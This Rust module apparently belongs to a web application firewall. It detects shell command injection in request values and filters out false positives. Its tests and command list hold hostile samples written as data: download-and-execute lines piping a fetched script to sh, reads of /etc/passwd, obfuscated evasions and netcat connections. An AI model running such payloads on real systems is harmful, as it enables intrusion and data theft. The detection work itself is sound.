//! Command lines: a value is a command injection when, read as a POSIX shell or Windows command line would
//! read it, a known command stands in command position with arguments shaped as a command's.
//!
//! Command position is the start of the value, or after a command separator (`;`, `|`, `&`, a newline), or
//! inside a command substitution (`$(...)`, backquotes, `<(...)`). Before the word is looked up, what shells
//! remove is removed: quotes and backslashes inside a word (`c'a't`, `c\at`), `$IFS`/`${IFS}` (a space), `$@`
//! and `$*` (nothing), and a path before the command (`/bin/cat`, `C:\Windows\System32\cmd.exe`).
//!
//! Prose has separators and command words too ("Tom & Jerry; cat lovers will like it"), so the arguments must
//! look like a command's: none at all after a separator (`; id`), or an option, a path, a number (for a command
//! that takes one: `sleep 5`), an address, a redirection, a variable or a glob among them, and no more than two
//! plain words. The lexer is written here:
//! the shell-parsing crates (`shell-words`, `shlex`) split a well-formed command line into words, while this must
//! find commands anywhere in arbitrary text and never fail on it.

use crate::operator::is_name_byte;
use std::borrow::Cow;
use std::ops::Range;

/// Commands attackers run first: reconnaissance, file reading, downloading, reverse shells, interpreters, and
/// their Windows counterparts. Lowercase. A listed command counts even without arguments after a separator
/// (`; id`); any other word counts only with arguments shaped as a command's (`; gdb -nx -ex ...`).
const COMMANDS: &[&str] = &[
    "alias",
    "ansible",
    "awk",
    "base64",
    "bash",
    "bcdboot",
    "bitsadmin",
    "busybox",
    "cat",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cp",
    "crontab",
    "csh",
    "curl",
    "dash",
    "dd",
    "dig",
    "dir",
    "echo",
    "env",
    "eval",
    "exec",
    "expr",
    "fetch",
    "find",
    "ftp",
    "gcc",
    "grep",
    "head",
    "hostname",
    "id",
    "ifconfig",
    "ipconfig",
    "java",
    "kill",
    "ksh",
    "less",
    "ln",
    "ls",
    "lynx",
    "gdb",
    "iwmi",
    "mkfifo",
    "mknod",
    "more",
    "mv",
    "nc",
    "ncat",
    "net",
    "netcat",
    "netstat",
    "nmap",
    "node",
    "nohup",
    "regedit",
    "strace",
    "time",
    "trap",
    "nslookup",
    "openssl",
    "passwd",
    "perl",
    "php",
    "ping",
    "powershell",
    "printenv",
    "printf",
    "ps",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "reg",
    "rm",
    "ruby",
    "scp",
    "sed",
    "set",
    "sh",
    "sleep",
    "socat",
    "ssh",
    "sudo",
    "systeminfo",
    "tail",
    "tar",
    "tasklist",
    "tclsh",
    "telnet",
    "tftp",
    "timeout",
    "touch",
    "type",
    "uname",
    "useradd",
    "ver",
    "wget",
    "whoami",
    "wmic",
    "xargs",
    "xterm",
    "zsh",
];

/// At most this many bytes of a value are lexed: a command injection sits in the first part of a parameter,
/// and the bound keeps confirmation linear and small on a large body that a rule hit.
const MAX_LEXED: usize = 64 * 1024;

/// Why a hit `~+`, `~-` or `~N` in `value` is no tilde expansion (the directory stack, CRS 932270): the shell
/// expands a tilde only where a word starts (or after `=` or `:` in an assignment), and this one follows a
/// character of the word it is in, as the `~` separators of tokens are (Akamai Bot Manager's `_abck` cookie,
/// `...~-1~YAAQ...~-1~-1`, on every page of the sites it protects) and a generated password's symbols are
/// (`D?~-6T6y`). What can put a tilde where a word starts counts: a blank or an operator before it, a brace or a
/// comma of a brace expansion (`{~-1,x}`), the end of an expansion (`${IFS}~+`), a command substitution's
/// backquote, a quote, and an assignment's first `=` or a `:` after it, where the word starts with a shell name
/// and `=` (`X=~+`, `PATH=~-:~+`). A word of other characters before its `=` is no assignment, as base64's
/// padding before the `~` of Akamai's cookie is not (`...Z0ho=~-1~-1`).
pub fn tilde_inside_word(value: &[u8], hit: Range<usize>) -> Option<String> {
    // What ends a word before a tilde: a blank, an operator, a brace or a comma of an expansion, a backquote,
    // a quote.
    let breaks_word = |b: &u8| b.is_ascii_whitespace() || b";|&(){}<>,`\"'".contains(b);
    let matched = value.get(hit.clone())?;
    let before = *value.get(hit.start.checked_sub(1)?)?;
    let word_start = value[..hit.start]
        .iter()
        .rposition(breaks_word)
        .map_or(0, |at| at + 1);
    let word = &value[word_start..hit.start];
    // The name an assignment's word starts with, and where its first `=` is.
    let assigns_at = word
        .iter()
        .position(|&b| b == b'=')
        .filter(|&eq| eq > 0 && !word[0].is_ascii_digit() && word[..eq].iter().all(is_name_byte));
    let in_assignment = match before {
        b'=' => assigns_at == Some(word.len() - 1),
        b':' => assigns_at.is_some(),
        _ => false,
    };
    let starts_word = breaks_word(&before) || in_assignment;
    let inside = matched.first() == Some(&b'~') && !starts_word;
    inside.then(|| {
        format!(
            "`{}` follows `{}` inside a word: the shell expands a tilde only where a word starts",
            String::from_utf8_lossy(matched),
            char::from(before)
        )
    })
}

/// Why a brace expansion the pattern hit in `value` (CRS 932280, `{cat,/etc/passwd}`) runs nothing: every
/// `{...}` with a comma in the value holds digits and commas only (`{2,}`, `{1,3}`, a regular expression's
/// quantifier in a pattern someone tests or searches for, expands to numbers), or follows a part of its word
/// and expands with it to words that name no known command and no path (`cs.{sale,new}`, PostgREST's array
/// filter, is `cs.sale cs.new`; `*.{jpg,png}`; a field selection, `users{id,name}`, is `usersid usersname`). The
/// part before the braces starts every word the expansion makes, the command's and each argument's (`c{at,}` is
/// `cat c`); a bare `{,ip,a}` is the command line `ip a`, and a word with a slash, a backslash, a `$` or a
/// backquote is a path or more than a word: those count.
pub fn inert_braces(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit)?;
    if matched.first() != Some(&b'{') || matched.last() != Some(&b'}') || !matched.contains(&b',') {
        return None;
    }
    let ends_word = |b: &u8| b.is_ascii_whitespace() || b";|&()<>".contains(b);
    let mut from = 0;
    while let Some(open) = memchr::memchr(b'{', &value[from..]).map(|at| from + at) {
        let Some(close) = memchr::memchr(b'}', &value[open + 1..]).map(|at| open + 1 + at) else {
            break;
        };
        let group = &value[open + 1..close];
        if group.contains(&b',') && !group.iter().all(|b| b.is_ascii_digit() || *b == b',') {
            let prefix_start = value[..open]
                .iter()
                .rposition(ends_word)
                .map_or(0, |at| at + 1);
            let suffix_end = value[close + 1..]
                .iter()
                .position(ends_word)
                .map_or(value.len(), |at| close + 1 + at);
            let prefix = &value[prefix_start..open];
            if prefix.is_empty() {
                return None;
            }
            let runs = group.split(|&b| b == b',').any(|item| {
                let word: Vec<u8> = [prefix, item, &value[close + 1..suffix_end]]
                    .concat()
                    .into_iter()
                    .filter(|&b| b != b'"' && b != b'\'')
                    .collect();
                word.iter().any(|b| b"/\\$`".contains(b)) || command_name(&word).is_some()
            });
            if runs {
                return None;
            }
        }
        from = close + 1;
    }
    Some(
        "a brace expansion of numbers only (a regular expression's quantifier), or after a part of its word that makes every word it expands to no command and no path"
            .to_owned(),
    )
}

/// Why a pathname pattern the pattern hit in `value` (CRS 932130's `/bin/c[a]t`) is none: what its brackets hold
/// is no bracket expression the shell matches file names with, since it holds a blank or one of the shell's
/// operators (`(`, `)`, `;`, `|`, `&`, `<`, `>`), which end the word. Random characters that an ad verifier's
/// pixel sends (`/[GI?i6^B61/=SqcMr1{,Tu9(a.P+)...]`) look like one. (Slashes inside, `/etc/[p//]asswd`, are an
/// evasion CRS tests for, and count.)
pub fn no_bracket_expression(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit)?.strip_prefix(b"/")?;
    let open = memchr::memchr(b'[', matched)?;
    let inner = matched[open + 1..].strip_suffix(b"]")?;
    inner
        .iter()
        .any(|&b| b.is_ascii_whitespace() || b"();|&<>".contains(&b))
        .then(|| "brackets holding a blank or a shell operator: no pathname pattern".to_owned())
}

/// A `User-Agent` names the software that sends it: products (`ZulipPython/0.9.0`) and comments in parentheses
/// whose parts a `;` or a `|` separates (RFC 9110, section 10.1.5), which SDKs fill with their runtime and its
/// version (`(Linux; Ubuntu 22.04; Python 3.10.12)`, Algolia's `...; Python (3.11.7)`, Shopify's `| Ruby 3.2.2`)
/// or end with its name (OpenTelemetry Ruby's `(x86_64-linux; ruby)`). A command after a separator there whose
/// only argument is a version number (a file of that name is nothing a command line runs), or that ends the
/// comment, names the runtime: it starts no command line.
pub fn runtime_in_user_agent(name: &[u8], value: &[u8], hit: Range<usize>) -> Option<String> {
    if !name.eq_ignore_ascii_case(b"user-agent") {
        return None;
    }
    let matched = value.get(hit.clone())?;
    let start = hit.start + matched.iter().position(u8::is_ascii_alphabetic)?;
    let separated = value[hit.start..start].iter().all(|b| b" ;|".contains(b));
    let word_end = start
        + value[start..]
            .iter()
            .position(|b| !b.is_ascii_alphanumeric())
            .unwrap_or(value.len() - start);
    let rest = &value[word_end..];
    let version = |rest: &[u8]| {
        let rest = rest.strip_prefix(b"(").unwrap_or(rest);
        let rest = rest.strip_prefix(b"v").unwrap_or(rest);
        let digits = rest
            .iter()
            .position(|b| !(b.is_ascii_digit() || *b == b'.'))
            .unwrap_or(rest.len());
        let after = &rest[digits..];
        let after = after.strip_prefix(b")").unwrap_or(after);
        digits > 0 && rest[0].is_ascii_digit() && after.first().is_none_or(|b| b" ;)|,".contains(b))
    };
    let names_runtime = rest.first() == Some(&b')') || rest.strip_prefix(b" ").is_some_and(version);
    (separated && names_runtime).then(|| {
        format!(
            "`{}` names the runtime in a User-Agent's comment, with its version or at the comment's end: no command line",
            String::from_utf8_lossy(&value[start..word_end])
        )
    })
}

/// Why a hit `$(...)` in `value` is JavaScript, not a command substitution: a property or method of it taken,
/// as jQuery is written (`$(document).ready(...)`, `$('#cart').hide()`, searched as `$(document).ready not
/// firing`), in searches, posts and code fields of developers. What is inside runs no known command: `$(id).txt`
/// names a file after a command's output.
pub fn jquery_call(value: &[u8], hit: Range<usize>) -> Option<String> {
    let matched = value.get(hit.clone())?;
    let inner = matched.strip_prefix(b"$(")?.strip_suffix(b")")?;
    let after = value.get(hit.end..)?;
    let member = after.first() == Some(&b'.')
        && after
            .get(1)
            .is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
    let first_word: Vec<u8> = inner
        .iter()
        .copied()
        .filter(|b| !matches!(b, b'\'' | b'"'))
        .take_while(|b| !b.is_ascii_whitespace())
        .map(|b| b.to_ascii_lowercase())
        .collect();
    (member && command_name(&first_word).is_none()).then(|| {
        format!(
            "`{}.` takes a member: jQuery, not a command substitution",
            String::from_utf8_lossy(matched)
        )
    })
}

/// The command found in command position, when there is one.
///
/// An injected command ends the argument the value was meant to be: it heads the value, or follows the first
/// separator after at most one word (`127.0.0.1; cat /etc/passwd`, `x|id`, `a$(id)`). A separator after
/// several words is punctuation of text or of a document (a post that quotes a pipeline), where no argument
/// ends.
///
/// In a `line_of_text` (prose the application passes on whole), the words before a separator are the argument's own
/// (`ping a b; id` runs `id` as surely as `ping a; id`): there a command chained anywhere counts when its arguments
/// reach the system ([`reaches_the_system`]).
pub fn injection(value: &[u8], line_of_text: bool) -> Option<String> {
    let value = without_data_uri_headers(&value[..value.len().min(MAX_LEXED)]);
    let value = value.as_ref();
    let segments = segments(value);
    let mut candidates = segments.iter().take(2);
    let first = candidates.next()?;
    if let Some(construct) = cmd_construct(value) {
        return Some(construct);
    }
    let found = |segment: &Segment| {
        let after_separator = !std::ptr::eq(segment, first);
        command_line(segment, after_separator).map(|command| {
            format!(
                "command `{command}` in command position ({})",
                segment.position
            )
        })
    };
    found(first)
        .or_else(|| match first.words.len() {
            0 | 1 => candidates.next().and_then(found),
            _ => None,
        })
        .or_else(|| {
            if !line_of_text || value.contains(&b'\n') {
                return None;
            }
            segments[1..]
                .iter()
                .filter(|segment| matches!(segment.position, SEPARATOR | PIPE | SUBSTITUTION))
                .find_map(|segment| {
                    // A known command only: text quotes configuration lines too (`ssl_certificate /etc/...;`).
                    let command = command_line(segment, true)
                        .filter(|command| command_name(command.as_bytes()).is_some())?;
                    reaches_the_system(segment).then(|| {
                        format!(
                            "command `{command}` on a system path or URL, chained after text ({})",
                            segment.position
                        )
                    })
                })
        })
}

/// Whether a command line's arguments name what an attack reaches for: an absolute path of the system
/// (`/etc/passwd`, `/bin/sh`, `/tmp/x`) or a URL to fetch. Commands that posts quote work on the project's
/// files (`rm -rf build`, `npm run test`); an injection reads the system's or fetches its payload.
fn reaches_the_system(segment: &Segment) -> bool {
    segment.words.iter().skip(1).any(|word| {
        [
            "/etc/", "/bin/", "/usr/", "/tmp/", "/dev/", "/proc/", "/var/", "http://", "https://",
        ]
        .iter()
        .any(|prefix| word.starts_with(prefix.as_bytes()))
    })
}

/// Words between two separators, and what put them in command position.
struct Segment {
    words: Vec<Vec<u8>>,
    /// Per word: whether quotes, `^` or a backslash were inside it (`c'a't`, `w^hoami`, `\\ls`): text has no
    /// reason to write a command so, evasion does.
    obfuscated: Vec<bool>,
    position: &'static str,
}

/// `value` with the headers of its data URIs (RFC 2397: `data:image/png;base64,`, `data:text/plain;charset=utf-8,`)
/// blanked: their `;` separates a media type from its parameters, not two commands, and `base64` there is a
/// word of the syntax.
fn without_data_uri_headers(value: &[u8]) -> Cow<'_, [u8]> {
    let mut owned: Option<Vec<u8>> = None;
    let mut from = 0;
    while let Some(at) = memchr::memmem::find(&value[from..], b"data:").map(|i| from + i) {
        let rest = &value[at + 5..];
        let header = rest.iter().position(|&b| b == b',').filter(|&end| {
            let header = &rest[..end];
            header.contains(&b'/')
                && header.iter().all(|&b| {
                    b.is_ascii_alphanumeric()
                        || matches!(b, b'/' | b';' | b'=' | b'.' | b'+' | b'-')
                })
        });
        match header {
            Some(end) => {
                let bytes = owned.get_or_insert_with(|| value.to_vec());
                bytes[at..at + 5 + end].fill(b' ');
                from = at + 5 + end;
            }
            None => from = at + 5,
        }
    }
    owned.map_or(Cow::Borrowed(value), Cow::Owned)
}

/// What puts a segment in command position: a separator, a pipe or `&`, a `$(...)` substitution.
const SEPARATOR: &str = "after a command separator";
const PIPE: &str = "after a pipe or `&`";
const SUBSTITUTION: &str = "inside `$(...)`";

/// Splits `value` into segments at separators and substitutions, each segment's words with the quoting removed.
fn segments(value: &[u8]) -> Vec<Segment> {
    let mut segments = Vec::new();
    let mut current = Segment {
        words: Vec::new(),
        obfuscated: Vec::new(),
        position: "start of the value",
    };
    let mut word: Vec<u8> = Vec::new();
    let mut obfuscated = false;
    // The quote a word opened and has not closed yet.
    let mut open: Option<u8> = None;
    let mut i = 0;
    let flush = |word: &mut Vec<u8>, obfuscated: &mut bool, segment: &mut Segment| {
        if !word.is_empty() {
            segment.words.push(std::mem::take(word));
            segment.obfuscated.push(*obfuscated);
        }
        *obfuscated = false;
    };
    while i < value.len() {
        let b = value[i];
        let separator = match b {
            b';' | b'\n' | b'\r' => Some((SEPARATOR, 1)),
            b'|' | b'&' => Some((PIPE, if value.get(i + 1) == Some(&b) { 2 } else { 1 })),
            b'`' => Some(("inside backquotes", 1)),
            b'$' if value.get(i + 1) == Some(&b'(') => Some((SUBSTITUTION, 2)),
            b'<' | b'>' if value.get(i + 1) == Some(&b'(') => {
                Some(("inside a process substitution", 2))
            }
            b'(' | b')' | b'{' | b'}' => Some(("after a group", 1)),
            _ => None,
        };
        if let Some((position, len)) = separator {
            flush(&mut word, &mut obfuscated, &mut current);
            segments.push(std::mem::replace(
                &mut current,
                Segment {
                    words: Vec::new(),
                    obfuscated: Vec::new(),
                    position,
                },
            ));
            i += len;
            continue;
        }
        if let Some(len) = ifs_at(&value[i..]) {
            flush(&mut word, &mut obfuscated, &mut current);
            i += len;
            continue;
        }
        match b {
            b' ' | b'\t' | b',' => flush(&mut word, &mut obfuscated, &mut current),
            // Quotes (and cmd's `^`) join the pieces of a word, as the shell reads `c'a't`. A quote whose
            // partner is not in the same word is another thing: the shell would read the blanks after it as part
            // of one long quoted word, or refuse the line unterminated, so it names no command; in text it is an
            // apostrophe (`I'd like`, `don't`) and stays a character of the word.
            b'\'' | b'"' if open == Some(b) => {
                open = None;
                obfuscated |= !word.is_empty();
            }
            b'\'' | b'"' => match quoted_in_word(&value[i + 1..], b) {
                Some(inner) => {
                    word.extend(inner.iter().map(u8::to_ascii_lowercase));
                    obfuscated |= !word.is_empty();
                    i += inner.len() + 2;
                    continue;
                }
                // A quote opening a word quotes what follows, blanks included: the command string of
                // `system('echo cd /tmp; wget ...')` or `sh -c "id; uname -a"`, read as the shell reads it.
                None if word.is_empty() => open = Some(b),
                None => word.push(b),
            },
            b'^' => obfuscated |= !word.is_empty(),
            // A backslash stays: it is an escape to a POSIX shell (`c\at`) and a path separator to Windows;
            // [`command_name`] reads it both ways.
            b'\\' => {
                obfuscated = true;
                word.push(b);
            }
            b'$' if matches!(value.get(i + 1), Some(b'@' | b'*')) => i += 1,
            _ => word.push(b.to_ascii_lowercase()),
        }
        i += 1;
    }
    flush(&mut word, &mut obfuscated, &mut current);
    segments.push(current);
    segments
}

/// What a quote opened just before `rest` holds, when the same quote closes it before the word ends (a blank,
/// a separator or the value's end): `a` of `c'a't`, `cat` of `'cat'`, nothing of `i''d`. A quote closed only
/// past a blank, or never, joins no pieces of one word.
fn quoted_in_word(rest: &[u8], quote: u8) -> Option<&[u8]> {
    let end = rest.iter().position(|&b| {
        b == quote || b.is_ascii_whitespace() || matches!(b, b';' | b'|' | b'&' | b',')
    })?;
    (rest[end] == quote).then(|| &rest[..end])
}

/// The length of a `$IFS` or `${IFS}` at the start of `rest` (the shell's field separator: a space).
fn ifs_at(rest: &[u8]) -> Option<usize> {
    [&b"${IFS}"[..], b"$IFS"]
        .into_iter()
        .find(|ifs| rest.len() >= ifs.len() && rest[..ifs.len()].eq_ignore_ascii_case(ifs))
        .map(<[u8]>::len)
}

/// The command, when `segment` is a command line: a command first (after environment assignments), with
/// arguments shaped as a command's (an option, a path, a number for a command that takes one, an address, a
/// redirection, a variable, a glob, and at most two plain words). A listed command also counts written with evasions, or alone
/// `after_separator` (`; id`, `| whoami`); a lone word heading the value ("type", "find") is an ordinary value.
fn command_line(segment: &Segment, after_separator: bool) -> Option<String> {
    let words = &segment.words;
    let first = words
        .iter()
        .position(|w| !(w.contains(&b'=') && w.first().is_some_and(u8::is_ascii_alphabetic)))?;
    let args = &words[first + 1..];
    let name = command_name(&words[first]);
    // A number is an argument of a command that counts or waits (`sleep 5`, `kill 1`, `nc host 4444`); after
    // any other word it is the number of prose ("ls 300 lexus", "java 17 download", "env 2024 report").
    let numeric = name.is_some_and(|name| NUMERIC.contains(&name));
    let plain = args
        .iter()
        .filter(|a| is_plain_word(a) || (!numeric && is_number(a)))
        .count();
    let shaped = args.len() > plain && plain <= 2;
    match name {
        Some(name) => {
            let alone = args.is_empty() && after_separator;
            let evasive = segment.obfuscated.get(first) == Some(&true);
            (alone || shaped || evasive).then(|| name.to_owned())
        }
        None => (after_separator && shaped && is_command_word(&words[first]))
            .then(|| String::from_utf8_lossy(&words[first]).into_owned()),
    }
}

/// The listed commands an attack gives a bare number: a delay (`sleep 5`, the blind injection's probe), a port
/// (`nc attacker 4444`), a mode (`chmod 777 x`), an address in decimal (`ping 2130706433`).
const NUMERIC: &[&str] = &[
    "chmod", "nc", "ncat", "netcat", "ping", "sleep", "socat", "timeout",
];

/// A number as prose writes one: digits, with `.` or `,` between them (`300`, `3.5`, `1,000`).
fn is_number(word: &[u8]) -> bool {
    word.first().is_some_and(u8::is_ascii_digit)
        && word.last().is_some_and(u8::is_ascii_digit)
        && word
            .iter()
            .all(|&b| b.is_ascii_digit() || matches!(b, b'.' | b','))
}

/// A word that can name a program: a letter, then letters, digits, `-`, `_` and `.` (`ansible-galaxy`,
/// `python3.12`), or a PowerShell cmdlet (`Invoke-WebRequest`).
fn is_command_word(word: &[u8]) -> bool {
    word.first().is_some_and(u8::is_ascii_alphabetic)
        && word
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.'))
}

/// cmd.exe's compound commands, which read as words: `for %x in (set) do command`, `for /f ... do`,
/// `if exist file command`, `if not defined var command`, `if %errorlevel% equ 2 goto x`.
fn cmd_construct(value: &[u8]) -> Option<String> {
    let lower = value.to_ascii_lowercase();
    let words: Vec<&[u8]> = lower
        .split(|b| b.is_ascii_whitespace() || *b == b'(' || *b == b')')
        .filter(|w| !w.is_empty())
        .collect();
    let has = |w: &[u8]| words.contains(&w);
    let variable = |w: &&[u8]| w.first() == Some(&b'%');
    let construct = match words.first().copied() {
        Some(b"for") => {
            has(b"in")
                && has(b"do")
                && (words.iter().any(variable)
                    || words.get(1).is_some_and(|w| w.first() == Some(&b'/')))
        }
        Some(b"if") => {
            words.get(1).is_some_and(|w| {
                matches!(*w, b"not" | b"exist" | b"defined" | b"errorlevel" | b"/i") || variable(w)
            }) && words.len() >= 4
        }
        _ => false,
    };
    construct.then(|| "a cmd.exe `for` or `if` command".to_owned())
}

/// PowerShell's verb-noun cmdlets (`Invoke-WebRequest`, `Get-Content`): a verb of the approved list, a hyphen, a
/// noun.
fn is_cmdlet(name: &[u8]) -> bool {
    const VERBS: &[&[u8]] = &[
        b"invoke-",
        b"get-",
        b"set-",
        b"new-",
        b"remove-",
        b"start-",
        b"stop-",
        b"add-",
        b"copy-",
        b"move-",
        b"out-",
        b"write-",
        b"import-",
        b"export-",
        b"convertto-",
        b"convertfrom-",
    ];
    VERBS.iter().any(|verb| {
        name.len() > verb.len()
            && name.starts_with(verb)
            && name[verb.len()..].iter().all(u8::is_ascii_alphabetic)
    })
}

/// The known command a word names, without its directory (`/usr/bin/id` → `id`, `c:\windows\system32\cmd.exe`
/// → `cmd`), a backslash read as a Windows path separator or as a POSIX escape (`c\at` → `cat`).
fn command_name(word: &[u8]) -> Option<&'static str> {
    let unescaped: Vec<u8> = word.iter().copied().filter(|&b| b != b'\\').collect();
    let last = |word: &[u8], separators: &[u8]| -> Vec<u8> {
        let name = word
            .rsplit(|b| separators.contains(b))
            .next()
            .unwrap_or(word);
        name.strip_suffix(b".exe").unwrap_or(name).to_vec()
    };
    [last(word, b"/\\"), last(&unescaped, b"/")]
        .into_iter()
        .find_map(|name| {
            COMMANDS
                .iter()
                .copied()
                .find(|c| c.as_bytes() == name)
                .or_else(|| is_cmdlet(&name).then_some("a PowerShell cmdlet"))
        })
}

/// A word of prose: letters only (any script) before its closing punctuation (`consigliato!!`, `why?!`), or a
/// dash of prose (`--` between two clauses: an option has a letter after its dashes).
fn is_plain_word(word: &[u8]) -> bool {
    if word.iter().all(|&b| b == b'-') {
        return true;
    }
    let letters = word
        .iter()
        .rposition(|b| !matches!(b, b'.' | b'!' | b'?' | b':'))
        .map_or(&word[..0], |last| &word[..=last]);
    !letters.is_empty()
        && letters
            .iter()
            .all(|&b| b.is_ascii_alphabetic() || b >= 0x80)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn brackets_a_shell_cannot_match_are_no_pattern() {
        let noise =
            b";[pwxnRd}t:a]mJVOG),~@5/[GI?i6^B61/=SqcMr1{,Tu9LJJ(a.P+)s1(u0.pVw!ry8k.\":=Mo]i)K";
        let start = 23;
        let end = noise.iter().rposition(|&b| b == b']').unwrap() + 1;
        assert!(no_bracket_expression(noise, start..end).is_some());
        assert!(no_bracket_expression(b"/bin/c[a]t /etc/passwd", 4..9).is_none());
        assert!(no_bracket_expression(b"/???/[!x]s", 4..9).is_none());
        assert!(no_bracket_expression(b"cat /etc/[p//]asswd", 8..14).is_none());
    }

    #[test]
    fn braces_expanding_to_no_command_run_nothing() {
        let regex = b"^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$";
        let at = regex.len() - 5;
        assert!(inert_braces(regex, at..at + 4).is_some());
        assert!(inert_braces(b"a{1,3}b", 1..6).is_some());
        assert!(inert_braces(b"cs.{sale,new}", 3..13).is_some());
        assert!(inert_braces(b"users{id,name,totalXp}", 5..22).is_some());
        assert!(inert_braces(b"who{ami,x}", 3..10).is_none());
        assert!(inert_braces(b"{cat,/etc/passwd}", 0..17).is_none());
        assert!(inert_braces(b"x{2,} {cat,/etc/passwd}", 1..5).is_none());
        assert!(inert_braces(b"@{[ system qq{whoami} ]}", 14..21).is_none());
        assert!(inert_braces(b"{ls,-la}", 0..8).is_none());
        assert!(inert_braces(b"{\"c\"at,x}", 0..9).is_none());
        assert!(inert_braces(b"c{at,}", 1..6).is_none());
        assert!(inert_braces(b"{id,$HOME}", 0..10).is_none());
        assert!(inert_braces(b"{,ip,a}", 0..7).is_none());
        assert!(inert_braces(b"x.{sh,/etc/passwd}", 2..18).is_none());
    }

    fn found(value: &str) -> Option<String> {
        injection(value.as_bytes(), false)
    }

    #[test]
    fn data_uris_are_not_command_lines() {
        assert_eq!(found("data:image/png;base64,iVBORw0KGgo="), None);
        assert_eq!(found("x=data:text/plain;charset=utf-8,hello%20world"), None);
        assert!(found("data:x; cat /etc/passwd").is_some());
    }

    #[test]
    fn a_tilde_inside_a_word_is_no_expansion() {
        assert!(tilde_inside_word(b"0A1B~-1~YAAQ~-1~-1", 4..7).is_some());
        assert!(tilde_inside_word(b"0A1B~0~y5D/1FN+ho=~-1~-1", 18..21).is_some());
        assert!(tilde_inside_word(b"x X=~+", 4..6).is_none());
        assert!(tilde_inside_word(b"PATH=/bin:~-", 10..12).is_none());
        assert!(tilde_inside_word(b"a=b=~+", 4..6).is_some());
        assert!(tilde_inside_word(b"cd ~-1", 3..6).is_none());
        assert!(tilde_inside_word(b"~+", 0..2).is_none());
        assert!(tilde_inside_word(b"x;~-", 2..4).is_none());
        assert!(tilde_inside_word(b"uk$p w[8t%/d?~-6t6y", 13..16).is_some());
        for start in [
            &b"{"[..],
            b"x,",
            b"${ifs}",
            b"a=",
            b"PATH=/bin:",
            b"`",
            b"'",
        ] {
            let value = [start, b"~+"].concat();
            assert!(tilde_inside_word(&value, start.len()..value.len()).is_none());
        }
    }

    #[test]
    fn jquery_is_not_a_substitution() {
        assert!(jquery_call(b"use $(document).ready() here", 4..15).is_some());
        assert!(jquery_call(b"$(document).ready not firing", 0..11).is_some());
        assert!(jquery_call(b"$('#cart').hide()", 0..10).is_some());
        assert!(jquery_call(b"x $(id) y", 2..7).is_none());
        assert!(jquery_call(b"$(id).txt", 0..5).is_none());
        assert!(jquery_call(b"$('whoami').x", 0..11).is_none());
        assert!(jquery_call(b"$(id); ls", 0..5).is_none());
    }

    #[test]
    fn a_runtime_and_its_version_in_a_user_agent_is_no_command() {
        let judged = |value: &[u8], hit: &[u8]| {
            let at = memchr::memmem::find(value, hit).expect("the hit is in the value");
            runtime_in_user_agent(b"User-Agent", value, at..at + hit.len()).is_some()
        };
        assert!(judged(
            b"ZulipPython/0.9.0 (Linux; Ubuntu 22.04; Python 3.10.12)",
            b"; Python "
        ));
        assert!(judged(
            b"Algolia for Python (3.0.0); Python (3.11.7)",
            b"; Python "
        ));
        assert!(judged(
            b"Shopify API Library v13.4.0 | Ruby 3.2.2",
            b"| Ruby "
        ));
        assert!(judged(
            b"OTel-OTLP-Exporter-Ruby/0.28.0 Ruby/3.3.1 (x86_64-linux; ruby)",
            b"; ruby)"
        ));
        assert!(!judged(b"Mozilla/5.0; python -c 'import os'", b"; python "));
        assert!(!judged(b"x; python 3.py", b"; python "));
        assert!(!judged(b"x|curl 10.0.0.1/x|sh", b"|curl "));
        assert!(!judged(b"x; perl -e 1", b"; perl "));
        let at = 39..48;
        assert!(
            runtime_in_user_agent(
                b"q",
                b"ZulipPython/0.9.0 (Linux; Ubuntu 22.04; Python 3.10.12)",
                at
            )
            .is_none()
        );
    }

    #[test]
    fn commands_in_command_position() {
        assert!(found("; id").is_some());
        assert!(found("a|whoami").is_some());
        assert!(found("x && wget http://203.0.113.5/x.sh -O /tmp/x").is_some());
        assert!(found("$(cat /etc/passwd)").is_some());
        assert!(found("`sleep 5`").is_some());
        assert!(found("/bin/cat /etc/passwd").is_some());
        assert!(found(";c'a't$IFS/etc/passwd").is_some());
        assert!(found("& C:\\Windows\\System32\\cmd.exe /c dir").is_some());
        assert!(found("|| ping -c 10 127.0.0.1").is_some());
        assert!(found("time; ansible-galaxy collection install community.general").is_some());
        assert!(found("Invoke-WebRequest http://example.com/path/file.ps1").is_some());
        assert!(found("\\ls").is_some());
        assert!(found("for %G in (Sun Mon) do echo %G").is_some());
        assert!(found("IF NOT EXIST temp.txt ECHO not found").is_some());
    }

    #[test]
    fn a_line_of_text_chains_commands_that_reach_the_system() {
        let in_text = |value: &str| injection(value.as_bytes(), true);
        assert!(in_text("I liked it a lot, thanks. ; cat /etc/passwd").is_some());
        assert!(in_text("nice shop | curl http://203.0.113.5/x.sh | sh").is_some());
        assert!(found("I liked it a lot, thanks. ; cat /etc/passwd").is_none());
        assert!(in_text("Great post; rm -rf build worked for me").is_none());
        assert!(in_text("Tom & Jerry; cat lovers will like it").is_none());
        assert!(
            in_text("then add ssl_certificate /etc/letsencrypt/live/x/fullchain.pem; and reload")
                .is_none()
        );
    }

    #[test]
    fn prose_and_plain_values_are_not() {
        assert_eq!(found("Tom & Jerry; cat lovers will like it"), None);
        assert_eq!(found("type"), None);
        assert_eq!(found("if you want it, order before noon"), None);
        assert_eq!(found("Sort by: price | rating | newest"), None);
        assert_eq!(found("I tried ls and it did nothing; what now?"), None);
        // An apostrophe is no quote joining a word: `I'd` is not `id` written evasively.
        assert_eq!(found("I'd like a gift note: 'Happy birthday!'"), None);
        assert_eq!(found("Thanks; I'd rather wait"), None);
        assert!(found("; i''d").is_some());
        assert!(found("x;'c'at /etc/passwd").is_some());
        assert!(found("system('echo cd /tmp;wget http://203.0.113.5/x -O p.txt')").is_some());
        assert!(found("; 'whoami'").is_some());
        assert_eq!(found("${user.name} logged in"), None);
        // A number is a command's argument only where the command takes one.
        assert_eq!(found("ls 300 lexus"), None);
        assert_eq!(found("env 2024 report"), None);
        assert_eq!(found("Net 30 days"), None);
        assert!(found("; sleep 5").is_some());
        assert!(found("nc attacker 4444").is_some());
        assert_eq!(
            found("To update run:\nsudo apt-get update && sudo apt-get upgrade"),
            None
        );
    }
}
